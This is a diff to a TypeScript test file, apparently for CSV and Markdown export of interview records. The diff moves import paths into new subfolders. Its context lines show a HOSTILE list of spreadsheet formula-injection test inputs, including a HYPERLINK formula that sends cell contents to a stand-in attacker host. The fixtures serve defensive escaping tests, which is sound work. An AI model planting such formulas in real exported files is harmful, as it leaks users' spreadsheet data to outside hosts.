@@ -5,11 +5,11 @@ import assert from 'node:assert/strict';
 import { parse } from 'csv-parse/sync';
 import { formatOnly as t } from '../../src/feishu/translate';
 import { parseInterview } from '../../src/feishu/validate';
-import { csvDocument, csvField } from '../../src/model/csv';
-import { toCsv, toExportJson, toMarkdown, type ExportOptions, type ExportRow } from '../../src/model/interviewExport';
-import { interviewMarkdown } from '../../src/model/interviewMarkdown';
-import { isoInZone } from '../../src/model/isoTime';
-import { mdCell, mdQuote, mdText } from '../../src/model/markdownText';
+import { csvDocument, csvField } from '../../src/model/export/csv';
+import { toCsv, toExportJson, toMarkdown, type ExportOptions, type ExportRow } from '../../src/model/export/interviewExport';
+import { interviewMarkdown } from '../../src/model/export/interviewMarkdown';
+import { isoInZone } from '../../src/model/text/isoTime';
+import { mdCell, mdQuote, mdText } from '../../src/model/text/markdownText';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\tleading tab', '\rleading CR',
